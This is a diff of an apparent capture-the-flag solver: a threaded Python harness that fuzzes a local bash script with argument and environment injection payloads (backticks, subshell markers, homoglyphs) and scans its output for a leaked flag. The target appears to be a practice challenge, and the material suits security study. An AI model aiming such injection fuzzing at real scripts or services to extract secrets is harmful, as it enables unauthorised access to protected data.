@@ -1,35 +1,286 @@
+import functools
 import itertools
 import os
+import queue
 import re
+import selectors
 import shlex
+import shutil
+import signal
 import subprocess
 import sys
-from typing import Any, Dict, Optional, Tuple
+import threading
+import time
+from concurrent.futures import FIRST_COMPLETED, Future, ThreadPoolExecutor, wait
+from dataclasses import dataclass
+from typing import Any, Dict, List, Optional, Sequence, Set, Tuple
 
 ATTEMPT_TIMEOUT = 5
+# Grace period for the pipes to reach EOF once the process group has been signalled.
+DRAIN_TIMEOUT = 1
+READ_CHUNK = 65536
+# Most log lines the writer thread buffers before a single write+flush.
+LOG_FLUSH_EVERY = 64
+# Attempts are I/O-bound (waiting on child processes), so threads scale well past the core count.
+MAX_WORKERS = min(64, (os.cpu_count() or 1) * 8)
+# Cap on submitted-but-unfinished attempts so the payload space is never materialised as futures.
+MAX_PENDING = MAX_WORKERS * 4
 
+# Resolved once so the child execs an absolute path instead of walking $PATH on every spawn.
+_ENV_BIN = shutil.which("env") or "/usr/bin/env"
+# Snapshot reused by styles that layer COMMAND/FLAG over the inherited environment.
+_BASE_ENV = os.environ.copy()
 
+# (style, title, actor, COMMAND, FLAG, display); only env-carrying styles have COMMAND/FLAG set.
+Task = Tuple[str, str, str, Optional[str], Optional[str], str]
+
+
+@dataclass(frozen=True, slots=True)
+class AttemptResult:
+    style: str
+    title: str
+    actor: str
+    command_value: Optional[str]
+    flag_value: Optional[str]
+    display: str
+    stdout: str
+    stderr: str
+    returncode: Optional[int]
+    env_applied: Dict[str, Optional[str]]
+    skipped: bool
+    error: Optional[str]
+    timeout: bool
+
+
+_RE_EXPLICIT = re.compile(r"The flag is\s+([^\s]+)")
+_RE_TDF = re.compile(r"(TDF\{[^}\n]+\})")
+_RE_FLAG_ENV = re.compile(r"FLAG=([^\s]+)")
+# Byte-level form of _RE_EXPLICIT, checked against raw child output as it streams in.
+_RE_DISCLOSURE = re.compile(rb"The flag is\s+[^\s]")
+
+_MARKER_ALLOWED = "User is allowed to run script"
+_MARKER_COMMAND_VALID = "Command is valid"
+
+_RE_B64 = re.compile(r"\b[A-Za-z0-9+/]{32,}={0,2}\b")
+# Folding the base64 alphabet onto "A" turns "is there a 32-char run?" into a plain substring test.
+_B64_FOLD = str.maketrans(
+    dict.fromkeys("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/", "A")
+)
+_B64_RUN = "A" * 32
+# Set by main() when a warm-up run of the script prints nothing, so no base64 can ever show up.
+_SKIP_B64 = False
+
+
+# The payload vocabulary is small and re-quoted for every style/env combination.
+@functools.lru_cache(maxsize=4096)
 def safe_quote(value: str) -> str:
     return shlex.quote(value)
 
 
-def detect_success(stdout: str, stderr: str) -> Optional[Dict[str, str]]:
-    combined = f"{stdout}\n{stderr}"
-    match = re.search(r"The flag is\s+([^\s]+)", combined)
+def may_contain_base64(buf: str) -> bool:
+    return _B64_RUN in buf.translate(_B64_FOLD)
+
+
+def _detect_in(buf: str) -> Optional[Dict[str, str]]:
+    # Separate searches in priority order: each keeps sre's literal-prefix scan, which a single
+    # alternation loses, and an explicit disclosure still wins over an earlier echo.
+    match = _RE_EXPLICIT.search(buf)
     if match:
         return {"flag": match.group(1), "reason": "explicit"}
-    match = re.search(r"(TDF\{[^}\n]+\})", combined)
+    match = _RE_TDF.search(buf)
     if match:
         return {"flag": match.group(1), "reason": "pattern"}
-    match = re.search(r"FLAG=([^\s]+)", combined)
+    match = _RE_FLAG_ENV.search(buf)
     if match:
         return {"flag": match.group(1), "reason": "env_leak"}
-    base64_match = re.search(r"\b[A-Za-z0-9+/]{32,}={0,2}\b", combined)
-    if base64_match:
-        return {"flag": base64_match.group(0), "reason": "base64_suspect"}
+    # Most outputs have no 32-char base64 run at all; only those that do pay for the regex.
+    if not _SKIP_B64 and may_contain_base64(buf):
+        base64_match = _RE_B64.search(buf)
+        if base64_match:
+            return {"flag": base64_match.group(0), "reason": "base64_suspect"}
     return None
 
 
+def detect_success(stdout: str, stderr: str) -> Optional[Dict[str, str]]:
+    # stderr is only scanned when stdout has nothing, which is where the script reports the flag.
+    return _detect_in(stdout) or _detect_in(stderr)
+
+
+def signal_group(proc: subprocess.Popen, sig: int) -> None:
+    try:
+        os.killpg(proc.pid, sig)
+    except ProcessLookupError:
+        pass
+
+
+class ChildGroup:
+    """Children of in-flight attempts, so they can all be killed once one attempt finds the flag."""
+
+    def __init__(self) -> None:
+        self._lock = threading.Lock()
+        self._procs: Set[subprocess.Popen] = set()
+        self.cancelled = False
+
+    def track(self, proc: subprocess.Popen) -> bool:
+        # False once the group is cancelled; the caller then owns killing the child.
+        with self._lock:
+            if self.cancelled:
+                return False
+            self._procs.add(proc)
+            return True
+
+    def untrack(self, proc: subprocess.Popen) -> None:
+        with self._lock:
+            self._procs.discard(proc)
+
+    def cancel(self) -> None:
+        with self._lock:
+            self.cancelled = True
+            for proc in self._procs:
+                # A reaped child's pid may already belong to someone else.
+                if proc.returncode is None:
+                    signal_group(proc, signal.SIGKILL)
+
+
+def _decode(buf: bytearray) -> str:
+    # Match the decoding and universal-newline translation of text-mode pipes.
+    return buf.decode("utf-8", "replace").replace("\r\n", "\n").replace("\r", "\n")
+
+
+def spawn(
+    cmd: List[str], env: Optional[Dict[str, str]], children: Optional[ChildGroup] = None
+) -> Optional[subprocess.Popen]:
+    """Start one attempt; returns ``None`` if ``children`` was cancelled while it was starting."""
+    proc = subprocess.Popen(
+        cmd,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        env=env,
+        # Own process group, so a timeout can take down anything the script spawned too.
+        # This rules out CPython's posix_spawn path, but with no preexec_fn or uid/gid
+        # changes the child is still started with vfork(), which skips copying page tables.
+        start_new_session=True,
+    )
+    if children is None or children.track(proc):
+        return proc
+    # The flag turned up while this child was starting: kill it and reap it here, or it would
+    # keep running unsupervised.
+    signal_group(proc, signal.SIGKILL)
+    proc.stdout.close()
+    proc.stderr.close()
+    proc.wait()
+    return None
+
+
+def read_output(proc: subprocess.Popen, timeout: float) -> Tuple[str, str, bool]:
+    """Collect stdout/stderr as they arrive, stopping early on an explicit flag disclosure.
+
+    Returns ``(stdout, stderr, timed_out)``. Only complete lines are scanned, so a flag is
+    never cut mid-token; weaker hits (an echoed ``FLAG=``) let the script run to completion
+    so a later explicit disclosure still takes precedence in ``detect_success``.
+    """
+    assert proc.stdout is not None and proc.stderr is not None
+    out_buf, err_buf = bytearray(), bytearray()
+    bufs = {proc.stdout.fileno(): out_buf, proc.stderr.fileno(): err_buf}
+    scanned = dict.fromkeys(bufs, 0)
+    timed_out = False
+    stopping = False
+    deadline = time.monotonic() + timeout
+
+    with selectors.DefaultSelector() as selector:
+        selector.register(proc.stdout, selectors.EVENT_READ)
+        selector.register(proc.stderr, selectors.EVENT_READ)
+        while selector.get_map():
+            remaining = deadline - time.monotonic()
+            if remaining <= 0:
+                if stopping:
+                    break
+                timed_out = stopping = True
+                signal_group(proc, signal.SIGKILL)
+                deadline = time.monotonic() + DRAIN_TIMEOUT
+                continue
+            for key, _ in selector.select(remaining):
+                data = os.read(key.fd, READ_CHUNK)
+                if not data:
+                    selector.unregister(key.fileobj)
+                    continue
+                buf = bufs[key.fd]
+                buf += data
+                if stopping:
+                    continue
+                end = buf.rfind(b"\n") + 1
+                if end > scanned[key.fd]:
+                    if _RE_DISCLOSURE.search(buf, scanned[key.fd], end):
+                        stopping = True
+                        signal_group(proc, signal.SIGTERM)
+                        deadline = time.monotonic() + DRAIN_TIMEOUT
+                    scanned[key.fd] = end
+
+    proc.stdout.close()
+    proc.stderr.close()
+    if not stopping:
+        # EOF only means the pipes closed; a child that keeps running is still held to the deadline.
+        try:
+            proc.wait(timeout=max(0.0, deadline - time.monotonic()))
+        except subprocess.TimeoutExpired:
+            timed_out = stopping = True
+    if stopping:
+        # Anything still alive after the drain window gets no second chance.
+        signal_group(proc, signal.SIGKILL)
+    proc.wait()
+    return _decode(out_buf), _decode(err_buf), timed_out
+
+
+def describe_invocation(
+    style_name: str,
+    title: str,
+    actor: str,
+    command_value: Optional[str],
+    flag_value: Optional[str],
+    script_path: str,
+) -> str:
+    # Only used for logging, so it is built once per task rather than inside the worker.
+    if style_name == "plain":
+        return " ".join(safe_quote(part) for part in (script_path, title, actor))
+    if style_name == "env_command":
+        parts = ("env", f"COMMAND={command_value}", f"FLAG={flag_value}", script_path, title, actor)
+        return " ".join(safe_quote(part) for part in parts)
+    if style_name in ("prefixed_env", "bash_export"):
+        prefix = "export " if style_name == "bash_export" else ""
+        separator = "; " if style_name == "bash_export" else " "
+        command_str = (
+            f"{prefix}COMMAND={safe_quote(command_value)} FLAG={safe_quote(flag_value)}{separator}"
+            f"{safe_quote(script_path)} {safe_quote(title)} {safe_quote(actor)}"
+        )
+        # Logged as the shell form it models; run_invocation skips the extra `bash -c` parse.
+        return "/bin/bash -c " + safe_quote(command_str)
+    return ""
+
+
+def build_command(
+    style_name: str,
+    title: str,
+    actor: str,
+    command_value: Optional[str],
+    flag_value: Optional[str],
+    script_path: str,
+) -> Tuple[List[str], Dict[str, Optional[str]], bool]:
+    """Return ``(argv, env_mod, in_environ)`` for one attempt.
+
+    ``env_mod`` holds the COMMAND/FLAG values the style applies; ``in_environ`` says whether they
+    are layered over the child's environment rather than passed to ``env`` on its command line.
+    """
+    if style_name == "plain":
+        return [script_path, title, actor], {}, False
+    env_mod = {"COMMAND": command_value, "FLAG": flag_value}
+    if style_name in ("prefixed_env", "bash_export"):
+        return ["/bin/bash", script_path, title, actor], env_mod, True
+    if style_name == "env_command":
+        cmd = [_ENV_BIN, f"COMMAND={command_value}", f"FLAG={flag_value}", script_path, title, actor]
+        return cmd, env_mod, False
+    raise ValueError(f"Unknown invocation style: {style_name}")
+
+
 def run_invocation(
     style_name: str,
     title: str,
@@ -37,155 +288,270 @@ def run_invocation(
     command_value: Optional[str],
     flag_value: Optional[str],
     script_path: str,
-) -> Dict[str, Any]:
-    env_base = os.environ.copy()
+    display_cmd: str,
+    children: Optional[ChildGroup] = None,
+) -> Optional[AttemptResult]:
+    # Returns None only when ``children`` was cancelled before this attempt's child could run.
     env_mod: Dict[str, Optional[str]] = {}
-    display_cmd = ""
     try:
-        if style_name == "plain":
-            cmd = [script_path, title, actor]
-            display_cmd = " ".join(safe_quote(part) for part in cmd)
-        elif style_name == "prefixed_env":
-            if command_value is None or flag_value is None:
-                raise ValueError("prefixed_env requires COMMAND and FLAG values")
-            command_str = (
-                f"COMMAND={safe_quote(command_value)} FLAG={safe_quote(flag_value)} "
-                f"{safe_quote(script_path)} {safe_quote(title)} {safe_quote(actor)}"
-            )
-            cmd = ["/bin/bash", "-c", command_str]
-            display_cmd = "/bin/bash -c " + safe_quote(command_str)
-            env_mod = {"COMMAND": command_value, "FLAG": flag_value}
-        elif style_name == "env_command":
-            if command_value is None or flag_value is None:
-                raise ValueError("env_command requires COMMAND and FLAG values")
-            cmd = ["env", f"COMMAND={command_value}", f"FLAG={flag_value}", script_path, title, actor]
-            display_cmd = " ".join(safe_quote(part) for part in cmd)
-            env_mod = {"COMMAND": command_value, "FLAG": flag_value}
-        elif style_name == "bash_export":
-            if command_value is None or flag_value is None:
-                raise ValueError("bash_export requires COMMAND and FLAG values")
-            command_str = (
-                f"export COMMAND={safe_quote(command_value)} FLAG={safe_quote(flag_value)}; "
-                f"{safe_quote(script_path)} {safe_quote(title)} {safe_quote(actor)}"
+        cmd, env_mod, in_environ = build_command(style_name, title, actor, command_value, flag_value, script_path)
+        env = {**_BASE_ENV, **env_mod} if in_environ else None
+        proc = spawn(cmd, env, children)
+        if proc is None:
+            return None
+        try:
+            stdout, stderr, timed_out = read_output(proc, ATTEMPT_TIMEOUT)
+        finally:
+            if children is not None:
+                children.untrack(proc)
+        if timed_out:
+            return AttemptResult(
+                style=style_name,
+                title=title,
+                actor=actor,
+                command_value=command_value,
+                flag_value=flag_value,
+                display=display_cmd or "<timeout>",
+                stdout=stdout,
+                stderr=stderr,
+                returncode=None,
+                env_applied=env_mod,
+                skipped=False,
+                error=f"timeout after {ATTEMPT_TIMEOUT}s",
+                timeout=True,
             )
-            cmd = ["/bin/bash", "-c", command_str]
-            display_cmd = "/bin/bash -c " + safe_quote(command_str)
-            env_mod = {"COMMAND": command_value, "FLAG": flag_value}
-        else:
-            raise ValueError(f"Unknown invocation style: {style_name}")
-
-        completed = subprocess.run(
-            cmd,
-            capture_output=True,
-            text=True,
-            encoding="utf-8",
-            errors="replace",
-            env=env_base,
-            timeout=ATTEMPT_TIMEOUT,
-            check=False,
+        return AttemptResult(
+            style=style_name,
+            title=title,
+            actor=actor,
+            command_value=command_value,
+            flag_value=flag_value,
+            display=display_cmd,
+            stdout=stdout,
+            stderr=stderr,
+            returncode=proc.returncode,
+            env_applied=env_mod,
+            skipped=False,
+            error=None,
+            timeout=False,
         )
-        return {
-            "style": style_name,
-            "title": title,
-            "actor": actor,
-            "command_value": command_value,
-            "flag_value": flag_value,
-            "display": display_cmd,
-            "stdout": completed.stdout,
-            "stderr": completed.stderr,
-            "returncode": completed.returncode,
-            "env_applied": env_mod,
-            "skipped": False,
-            "error": None,
-            "timeout": False,
-        }
-    except subprocess.TimeoutExpired as exc:
-        stdout = exc.stdout or ""
-        stderr = exc.stderr or ""
-        return {
-            "style": style_name,
-            "title": title,
-            "actor": actor,
-            "command_value": command_value,
-            "flag_value": flag_value,
-            "display": display_cmd or "<timeout>",
-            "stdout": stdout,
-            "stderr": stderr,
-            "returncode": None,
-            "env_applied": env_mod,
-            "skipped": False,
-            "error": f"timeout after {ATTEMPT_TIMEOUT}s",
-            "timeout": True,
-        }
-    except ValueError as exc:
-        return {
-            "style": style_name,
-            "title": title,
-            "actor": actor,
-            "command_value": command_value,
-            "flag_value": flag_value,
-            "display": display_cmd or "<invalid>",
-            "stdout": "",
-            "stderr": "",
-            "returncode": None,
-            "env_applied": env_mod,
-            "skipped": True,
-            "error": str(exc),
-            "timeout": False,
-        }
-
-
-def log_attempt(attempt_id: int, result: Dict[str, Any]) -> None:
-    if result["skipped"]:
-        print(
-            f"[{attempt_id:04d}] style={result['style']} skipped reason={result['error']} "
-            f"title={repr(result['title'])} actor={repr(result['actor'])}"
+    except (OSError, ValueError) as exc:
+        # NUL bytes in argv, or a script the kernel refuses to exec (e.g. ENOEXEC without a
+        # shebang): this style cannot run here, but the others may still reach the script.
+        return AttemptResult(
+            style=style_name,
+            title=title,
+            actor=actor,
+            command_value=command_value,
+            flag_value=flag_value,
+            display=display_cmd or "<invalid>",
+            stdout="",
+            stderr="",
+            returncode=None,
+            env_applied=env_mod,
+            skipped=True,
+            error=str(exc),
+            timeout=False,
+        )
+
+
+# Lines queued by log_attempt(); ``None`` tells the writer thread to drain and exit.
+_LOG_QUEUE: "queue.Queue[Optional[str]]" = queue.Queue()
+
+
+def _log_writer() -> None:
+    while True:
+        batch = [_LOG_QUEUE.get()]
+        while batch[-1] is not None and len(batch) < LOG_FLUSH_EVERY:
+            try:
+                batch.append(_LOG_QUEUE.get_nowait())
+            except queue.Empty:
+                break
+        done = batch[-1] is None
+        sys.stdout.write("".join(line for line in batch if line is not None))
+        sys.stdout.flush()
+        if done:
+            return
+
+
+def start_log_writer() -> threading.Thread:
+    writer = threading.Thread(target=_log_writer, name="log-writer", daemon=True)
+    writer.start()
+    return writer
+
+
+def stop_log_writer(writer: threading.Thread) -> None:
+    _LOG_QUEUE.put(None)
+    writer.join()
+
+
+def log_attempt(attempt_id: int, result: AttemptResult) -> None:
+    if result.skipped:
+        _LOG_QUEUE.put(
+            f"[{attempt_id:04d}] style={result.style} skipped reason={result.error} "
+            f"title={repr(result.title)} actor={repr(result.actor)}\n"
         )
         return
 
-    allowed = "User is allowed to run script" in result["stdout"]
-    command_valid = "Command is valid" in result["stdout"]
-    status = "timeout" if result["timeout"] else f"exit={result['returncode']}"
+    stdout = result.stdout
+    # Each `in` stops at its first hit in C; an attempt that printed nothing skips both scans.
+    allowed = bool(stdout) and _MARKER_ALLOWED in stdout
+    command_valid = bool(stdout) and _MARKER_COMMAND_VALID in stdout
+    status = "timeout" if result.timeout else f"exit={result.returncode}"
     summary = (
-        f"[{attempt_id:04d}] style={result['style']} {status} "
+        f"[{attempt_id:04d}] style={result.style} {status} "
         f"allowed={'Y' if allowed else 'N'} gh={'Y' if command_valid else 'N'} "
-        f"cmd={result['display']}"
+        f"cmd={result.display}\n"
     )
-    print(summary)
-    if result["stderr"].strip():
-        trimmed_err = result["stderr"].strip()
+    stderr = result.stderr
+    # Most attempts have empty stderr; skip the strip() copy for those.
+    if stderr and not stderr.isspace():
+        trimmed_err = stderr.strip()
         if len(trimmed_err) > 120:
             trimmed_err = trimmed_err[:117] + "..."
-        print(f"       stderr={trimmed_err}")
+        summary += f"       stderr={trimmed_err}\n"
+    _LOG_QUEUE.put(summary)
 
 
-def report_success(result: Dict[str, Any], success: Dict[str, str]) -> None:
+def report_success(result: AttemptResult, success: Dict[str, str]) -> None:
     print("\n[+] Flag disclosure detected!")
     print(f"    Reason: {success['reason']}")
     print(f"    Flag data: {success['flag']}")
-    print(f"    Style: {result['style']}")
-    print(f"    Command: {result['display']}")
-    print(f"    TITLE: {safe_quote(result['title'])}")
-    print(f"    ACTOR: {safe_quote(result['actor'])}")
-    if result["command_value"] is not None:
-        print(f"    COMMAND env: {repr(result['command_value'])}")
-    if result["flag_value"] is not None:
-        print(f"    FLAG env: {repr(result['flag_value'])}")
+    print(f"    Style: {result.style}")
+    print(f"    Command: {result.display}")
+    print(f"    TITLE: {safe_quote(result.title)}")
+    print(f"    ACTOR: {safe_quote(result.actor)}")
+    if result.command_value is not None:
+        print(f"    COMMAND env: {repr(result.command_value)}")
+    if result.flag_value is not None:
+        print(f"    FLAG env: {repr(result.flag_value)}")
 
     print("\n---- stdout ----")
-    print(result["stdout"], end="" if result["stdout"].endswith("\n") else "\n")
+    print(result.stdout, end="" if result.stdout.endswith("\n") else "\n")
     print("---- stderr ----")
-    if result["stderr"]:
-        print(result["stderr"], end="" if result["stderr"].endswith("\n") else "\n")
+    if result.stderr:
+        print(result.stderr, end="" if result.stderr.endswith("\n") else "\n")
     else:
         print("<empty>")
 
 
+def classify_payload(value: str) -> Dict[str, bool]:
+    return {"is_ascii": value.isascii(), "contains_nul": "\x00" in value}
+
+
+def prepare_payloads(raw: Sequence[str]) -> List[str]:
+    # execve() rejects NUL bytes in argv, so those payloads would only ever be logged as skipped.
+    # Homoglyphs are kept even when NFKC folds them onto ASCII: the script compares raw bytes.
+    seen = set()
+    ascii_payloads: List[str] = []
+    unicode_payloads: List[str] = []
+    for value in raw:
+        info = classify_payload(value)
+        if info["contains_nul"] or value in seen:
+            continue
+        seen.add(value)
+        (ascii_payloads if info["is_ascii"] else unicode_payloads).append(value)
+    # Unicode lookalikes are the long shots, so they run after the ASCII variants.
+    return ascii_payloads + unicode_payloads
+
+
+def build_tasks(
+    title_payloads: Sequence[str],
+    actor_payloads: Sequence[str],
+    invocation_styles: Sequence[Dict[str, Any]],
+    env_payloads: Sequence[Tuple[str, str]],
+    script_path: str,
+) -> List[Task]:
+    combinations = (
+        (style["name"], title, actor, command_value, flag_value)
+        for title, actor in itertools.product(title_payloads, actor_payloads)
+        for style in invocation_styles
+        for command_value, flag_value in (env_payloads if style["needs_env"] else ((None, None),))
+    )
+    # Styles that differ only in how they are logged can exec the same argv with the same
+    # environment (prefixed_env and bash_export both run bash directly); run each of those once.
+    seen = set()
+    tasks: List[Task] = []
+    for combo in combinations:
+        try:
+            cmd, env_mod, in_environ = build_command(*combo, script_path)
+        except ValueError:
+            # Leave it to run_invocation to report the bad style as skipped.
+            key = combo
+        else:
+            key = (tuple(cmd), tuple(env_mod.items()) if in_environ else None)
+        if key in seen:
+            continue
+        seen.add(key)
+        tasks.append((*combo, describe_invocation(*combo, script_path)))
+    return tasks
+
+
+def handle_result(attempt_id: int, result: AttemptResult) -> Optional[Dict[str, str]]:
+    log_attempt(attempt_id, result)
+    if result.skipped:
+        return None
+    return detect_success(result.stdout, result.stderr)
+
+
+def run_attempts(
+    tasks: Sequence[Task], script_path: str
+) -> Optional[Tuple[AttemptResult, Dict[str, str]]]:
+    # Results are logged as they complete, so attempt ids may appear out of order.
+    children = ChildGroup()
+    with ThreadPoolExecutor(max_workers=MAX_WORKERS) as executor:
+        pending: Dict["Future[Optional[AttemptResult]]", int] = {}
+
+        def drain(done: Any) -> Optional[Tuple[AttemptResult, Dict[str, str]]]:
+            for future in done:
+                attempt_id = pending.pop(future)
+                result = future.result()
+                if result is None:
+                    continue
+                success = handle_result(attempt_id, result)
+                if success:
+                    # Stop new spawns and kill in-flight children before the pool joins its workers.
+                    children.cancel()
+                    executor.shutdown(wait=False, cancel_futures=True)
+                    return result, success
+            return None
+
+        for attempt_id, (style_name, title, actor, command_value, flag_value, display_cmd) in enumerate(tasks, 1):
+            if len(pending) >= MAX_PENDING:
+                done, _ = wait(pending, return_when=FIRST_COMPLETED)
+                found = drain(done)
+                if found:
+                    return found
+            future = executor.submit(
+                run_invocation,
+                style_name=style_name,
+                title=title,
+                actor=actor,
+                command_value=command_value,
+                flag_value=flag_value,
+                script_path=script_path,
+                display_cmd=display_cmd,
+                children=children,
+            )
+            pending[future] = attempt_id
+
+        while pending:
+            done, _ = wait(pending, return_when=FIRST_COMPLETED)
+            found = drain(done)
+            if found:
+                return found
+    return None
+
+
 def main() -> None:
+    global _SKIP_B64
     script_path = os.path.abspath("./test2.bash")
     if not os.path.exists(script_path):
         print(f"[-] Unable to locate {script_path}", file=sys.stderr)
         sys.exit(1)
+    if not os.access(script_path, os.X_OK):
+        print(f"[-] {script_path} is not executable", file=sys.stderr)
+        sys.exit(1)
 
     # Actor payloads exercise whitespace, regex, quoting, homoglyph, and control-character angles.
     actor_payloads = [
@@ -220,6 +586,10 @@ def main() -> None:
         "tr0ł",  # Unicode l with stroke to probe unicode normalization.
         "tr0I",  # Uppercase I lookalike to cover ascii homoglyph.
     ]
+    raw_actor_count = len(actor_payloads)
+    actor_payloads = prepare_payloads(actor_payloads)
+    if len(actor_payloads) != raw_actor_count:
+        print(f"[*] Dropped {raw_actor_count - len(actor_payloads)} actor payload(s) that can never reach the script.")
 
     # Title payloads explore gh-prefixed commands, env-style assignments, backticks, and subshell markers.
     title_payloads = [
@@ -260,27 +630,33 @@ def main() -> None:
         {"name": "bash_export", "needs_env": True, "description": "Export variables before running script."},
     ]
 
-    attempt_id = 0
-    for title, actor in itertools.product(title_payloads, actor_payloads):
-        for style in invocation_styles:
-            env_values = env_payloads if style["needs_env"] else ((None, None),)
-            for command_value, flag_value in env_values:
-                attempt_id += 1
-                result = run_invocation(
-                    style_name=style["name"],
-                    title=title,
-                    actor=actor,
-                    command_value=command_value,
-                    flag_value=flag_value,
-                    script_path=script_path,
-                )
-                log_attempt(attempt_id, result)
-                if result["skipped"]:
-                    continue
-                success = detect_success(result["stdout"], result["stderr"])
-                if success:
-                    report_success(result, success)
-                    sys.exit(0)
+    tasks = build_tasks(title_payloads, actor_payloads, invocation_styles, env_payloads, script_path)
+    planned = len(title_payloads) * len(actor_payloads) * sum(
+        len(env_payloads) if style["needs_env"] else 1 for style in invocation_styles
+    )
+    if len(tasks) != planned:
+        print(f"[*] Dropped {planned - len(tasks)} attempt(s) that repeat an earlier command line and environment.")
+
+    # One warm-up run to learn whether the script ever prints anything the base64 scan could
+    # match. prefixed_env runs the script through bash, so it works without a shebang, unlike plain.
+    probe = next(task for task in tasks if task[0] == "prefixed_env")
+    baseline = run_invocation(*probe[:5], script_path, probe[5])
+    success = None if baseline.skipped else detect_success(baseline.stdout, baseline.stderr)
+    if success:
+        report_success(baseline, success)
+        sys.exit(0)
+    if not baseline.skipped and not baseline.stdout and not baseline.stderr:
+        _SKIP_B64 = True
+
+    writer = start_log_writer()
+    try:
+        found = run_attempts(tasks, script_path)
+    finally:
+        # Drain queued attempt lines before the final report so the output stays in order.
+        stop_log_writer(writer)
+    if found:
+        report_success(*found)
+        sys.exit(0)
 
     print("\n[-] Exhausted payload space without uncovering the flag.")
     sys.exit(1)